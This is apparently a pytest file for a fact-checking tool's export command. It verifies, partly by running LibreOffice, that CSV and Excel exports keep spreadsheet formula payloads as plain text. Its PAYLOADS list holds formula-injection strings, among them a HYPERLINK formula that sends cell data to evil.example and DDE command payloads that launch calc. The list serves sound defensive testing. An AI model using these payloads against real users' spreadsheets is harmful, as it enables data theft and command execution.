"""Safe exports: formula payloads in any text field stay plain text when the ratings CSV is
opened in a spreadsheet. Checked in LibreOffice itself (Debian's package, installed by
scripts/test.sh in CI), not only by looking at the CSV."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner

from factcheck.cli import cli

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
    "=1+1",
    "\t=2+2",
]


def _export_with_payloads(tmp_path: Path) -> Path:
    """Payloads in the article title, outlet, URL, claim text, speaker, cue, chain and notes."""
    db = ["--db", f"sqlite:///{tmp_path / 'payloads.db'}"]
    runner = CliRunner()
    article = tmp_path / "payload.txt"
    article.write_text(
        "\n\n".join(f"{payload} is what the minister said today." for payload in PAYLOADS),
        encoding="utf-8",
    )
    imported = runner.invoke(
        cli,
        [*db, "import", str(article), "--title", PAYLOADS[0], "--outlet", PAYLOADS[1],
         "--url", PAYLOADS[3], "--json"],
    )  # fmt: skip
    assert imported.exit_code == 0, imported.output
    claims = runner.invoke(cli, [*db, "claims", "1", "--json"])
    assert claims.exit_code == 0
    for index, claim in enumerate(json.loads(claims.stdout)):
        payload = PAYLOADS[index % len(PAYLOADS)]
        rated = runner.invoke(
            cli,
            [*db, "rate", str(claim["claim_id"]), "--reviewer", "ana", "--type", "indirect",
             "--speaker", payload, "--cue", payload, "--chain", f"{payload} > ZeroHedge",
             "--reliability", "B", "--credibility", "2", "--notes", payload],
        )  # fmt: skip
        assert rated.exit_code == 0, rated.output
    out = tmp_path / "ratings.csv"
    exported = runner.invoke(cli, [*db, "export", "--format", "csv", "--out", str(out)])
    assert exported.exit_code == 0, exported.output
    return out


def test_no_csv_cell_starts_like_a_formula(tmp_path: Path) -> None:
    out = _export_with_payloads(tmp_path)
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # The payloads are still there, readable, behind the apostrophe.
    assert f"'{PAYLOADS[0]}" in cells
    assert "'-1+1" in cells


def _libreoffice() -> str:
    found = shutil.which("libreoffice") or shutil.which("soffice")
    if found:
        return found
    if os.environ.get("CI") == "true":
        pytest.fail("LibreOffice is missing in CI: scripts/test.sh should have installed it")
    pytest.skip("LibreOffice not installed (scripts/test.sh installs it in CI)")


def test_libreoffice_opens_the_export_as_plain_text_cells(tmp_path: Path) -> None:
    office = _libreoffice()
    out = _export_with_payloads(tmp_path)
    converted = subprocess.run(
        [office, f"-env:UserInstallation=file://{tmp_path / 'profile'}", "--headless",
         "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir", str(tmp_path),
         str(out)],
        capture_output=True, text=True, timeout=240,
    )  # fmt: skip
    xlsx = tmp_path / "ratings.xlsx"
    assert xlsx.exists(), converted.stdout + converted.stderr
    with zipfile.ZipFile(xlsx) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
        strings = book.read("xl/sharedStrings.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet, "a cell became a formula"
    # No payload was evaluated into a number: every payload cell is a string cell.
    assert "HYPERLINK" in strings and "1+1" in strings
    numeric_values = re.findall(r'<c r="([A-Z]+)\d+"(?: s="\d+")?><v>', sheet)
    # Only the numeric columns hold numbers: ids, offsets, chain length, credibility, score.
    letters = {"A", "F", "G", "H", "I", "R", "U", "W"}
    assert set(numeric_values) <= letters, sorted(set(numeric_values) - letters)


# ---------------------------------------------------------------- for Excel (#17)


def test_the_excel_csv_has_a_byte_order_mark_and_the_plain_one_none(tmp_path: Path) -> None:
    plain = _export_with_payloads(tmp_path)
    excel = tmp_path / "excel.csv"
    db = ["--db", f"sqlite:///{tmp_path / 'payloads.db'}"]
    result = CliRunner().invoke(
        cli, [*db, "export", "--format", "csv", "--excel", "--out", str(excel)]
    )
    assert result.exit_code == 0, result.output
    assert excel.read_bytes().startswith(b"\xef\xbb\xbf")
    assert not plain.read_bytes().startswith(b"\xef\xbb\xbf")
    assert excel.read_bytes()[3:] == plain.read_bytes()
    refused = CliRunner().invoke(
        cli, [*db, "export", "--format", "xlsx", "--excel", "--out", str(tmp_path / "x.xlsx")]
    )
    assert refused.exit_code == 1 and "--excel is for --format csv" in refused.stderr


def _export_workbook(tmp_path: Path) -> Path:
    _export_with_payloads(tmp_path)
    book = tmp_path / "ratings-book.xlsx"
    db = ["--db", f"sqlite:///{tmp_path / 'payloads.db'}"]
    result = CliRunner().invoke(cli, [*db, "export", "--format", "xlsx", "--out", str(book)])
    assert result.exit_code == 0, result.output
    return book


def test_the_workbook_has_the_csvs_columns_as_typed_cells(tmp_path: Path) -> None:
    from datetime import datetime

    from openpyxl import load_workbook

    from factcheck.interchange.export import CSV_COLUMNS

    book = _export_workbook(tmp_path)
    rows = list(csv.DictReader(io.StringIO((tmp_path / "ratings.csv").read_text("utf-8"))))
    sheet = load_workbook(book)["ratings"]
    assert sheet.freeze_panes == "A2"
    header = [cell.value for cell in sheet[1]]
    assert header == list(CSV_COLUMNS)
    body = list(sheet.iter_rows(min_row=2))
    assert len(body) == len(rows)
    first = dict(zip(header, body[0], strict=True))
    assert isinstance(first["claim_id"].value, int)
    assert isinstance(first["rated_at"].value, datetime)
    assert first["grade"].value == "B2" and first["grade"].data_type == "s"
    assert first["translated"].value is False
    # Every cell a formula payload reached is text, holding the payload as written.
    cells = [cell for row in body for cell in row]
    assert not [c for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if c.data_type == "s"}
    assert {PAYLOADS[0], "=1+1", "-1+1"} <= texts


def test_libreoffice_reads_the_workbook_without_running_a_formula(tmp_path: Path) -> None:
    office = _libreoffice()
    book = _export_workbook(tmp_path)
    out = tmp_path / "back"
    converted = subprocess.run(
        [office, f"-env:UserInstallation=file://{tmp_path / 'profile'}", "--headless",
         "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1", "--outdir", str(out),
         str(book)],
        capture_output=True, text=True, timeout=240,
    )  # fmt: skip
    back = out / "ratings-book.csv"
    assert back.exists(), converted.stdout + converted.stderr
    cells = [c for row in csv.reader(io.StringIO(back.read_text("utf-8"))) for c in row]
    # "=1+1" evaluated would read "2"; the HYPERLINK formula would read "click"
    assert "=1+1" in cells and PAYLOADS[0] in cells and "click" not in cells
